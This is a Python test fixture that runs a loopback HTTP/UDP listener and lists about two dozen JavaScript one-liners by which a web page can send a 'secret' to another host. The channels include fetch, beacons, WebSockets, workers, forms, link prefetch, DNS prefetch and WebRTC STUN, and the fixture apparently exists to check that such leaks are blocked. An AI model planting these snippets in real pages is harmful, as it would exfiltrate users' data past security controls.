"""Another host on loopback, which has no business with anybody's data, and all ways to reach it."""

from __future__ import annotations

import socket
import threading
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any


@dataclass
class Stranger:
    """``asked``: what arrived there, by path. ``connections`` and ``packets`` count what came.

    It answers with ``body``, or leads back to ``leads_to``.
    """

    origin: str
    asked: Counter[str] = field(default_factory=Counter)
    bodies: list[bytes] = field(default_factory=list)
    connections: int = 0
    packets: int = 0
    body: str = ""
    leads_to: str = ""
    news: threading.Event = field(default_factory=threading.Event)

    @property
    def port(self) -> int:
        return int(self.origin.rpartition(":")[2])


@contextmanager
def stranger() -> Iterator[Stranger]:
    """Listen on TCP, and on the same port of UDP."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            path = self.path.partition("?")[0]
            length = int(self.headers.get("Content-Length", 0))
            there.bodies.append(self.rfile.read(length))
            there.asked[path] += 1
            self.send_response(302 if there.leads_to else 200)
            if there.leads_to:
                self.send_header("Location", there.leads_to)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Access-Control-Allow-Headers", "*")
            kind = "text/css" if path == "/style" else "text/html; charset=utf-8"
            self.send_header("Content-Type", kind)
            self.end_headers()
            self.wfile.write(there.body.encode())
            there.news.set()

        do_POST = do_PUT = do_OPTIONS = do_HEAD = do_GET

        def log_message(self, format: str, *args: object) -> None:
            pass

    class Server(ThreadingHTTPServer):
        def get_request(self) -> tuple[socket.socket, Any]:
            accepted = super().get_request()
            there.connections += 1
            return accepted

    def listen() -> None:
        while udp.recvfrom(4096)[0] != b"end":
            there.packets += 1
            there.news.set()

    server = Server(("127.0.0.1", 0), Handler)
    there = Stranger(f"http://localhost:{server.server_port}")
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", server.server_port))
    threads = [threading.Thread(target=server.serve_forever), threading.Thread(target=listen)]
    for thread in threads:
        thread.start()
    try:
        yield there
    finally:
        server.shutdown()
        udp.sendto(b"end", udp.getsockname())
        for thread in threads:
            thread.join()
        server.server_close()
        udp.close()


# Each way of a page to send something, by the path at which it would arrive.
WAYS = {
    "/image": "new Image().src = X + '/image?secret'",
    "/fetch": "fetch(X + '/fetch', {method: 'POST', mode: 'no-cors', body: 'secret'}).catch(no)",
    "/beacon": "navigator.sendBeacon(X + '/beacon', 'secret')",
    "/xhr": "(r => { r.open('PUT', X + '/xhr'); r.send('secret'); })(new XMLHttpRequest())",
    "/events": "new EventSource(X + '/events?secret')",
    "/socket": "new WebSocket(X.replace('http', 'ws') + '/socket?secret')",
    "/style": "add('link', {rel: 'stylesheet', href: X + '/style?secret'})",
    "/script": "add('script', {src: X + '/script?secret'})",
    "/frame": "add('iframe', {src: X + '/frame?secret'})",
    "/object": "add('object', {data: X + '/object?secret', type: 'text/html'})",
    "/video": "add('video', {src: X + '/video?secret', preload: 'auto'})",
    "/prefetch": "add('link', {rel: 'prefetch', href: X + '/prefetch?secret'})",
    "/ping": "add('a', {href: '#here', ping: X + '/ping'}).click()",
    "/form": (
        "(f => { f.append(add('input', {name: 'a', value: 'secret'})); f.submit(); })"
        "(add('form', {action: X + '/form', method: 'post', target: '_blank'}))"
    ),
    "/window": "window.open(X + '/window?secret')",
    "/redirected": "fetch('/away', {method: 'POST', body: 'secret'}).catch(no)",
    "/worker": "new Worker('/worker.js#' + X)",
    "/shared": "new SharedWorker('/shared.js#' + X)",
    "/service": (
        "navigator.serviceWorker.register('/service.js?' + X),"
        "navigator.serviceWorker.ready.then(r => r.active.postMessage('go'))"
    ),
}
PAGE = """<!doctype html><title>site</title><body><script>
const X = "%s", no = () => {};
const add = (name, given) => document.body.appendChild(Object.assign(
  document.createElement(name), given));
</script>"""
POST = "{method: 'POST', mode: 'no-cors', body: 'secret'}"
SCRIPTS = {
    "/worker.js": f"fetch(location.hash.slice(1) + '/worker', {POST})",
    "/shared.js": f"fetch(location.hash.slice(1) + '/shared', {POST})",
    "/service.js": f"onmessage = () => fetch(location.search.slice(1) + '/service', {POST})",
}
# What is no request and shows only as a connection or a packet.
QUIET_WAYS = (
    "add('link', {rel: 'preconnect', href: X})",
    "add('link', {rel: 'dns-prefetch', href: X.replace('localhost', 'secret.localhost')})",
    "(c => { c.createDataChannel('a'); c.createOffer().then(o => c.setLocalDescription(o)); })"
    "(new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + X.split(':')[2]}]}))",
    "window.WebTransport && new WebTransport(X.replace('http:', 'https:') + '/x').closed.catch(no)",
)
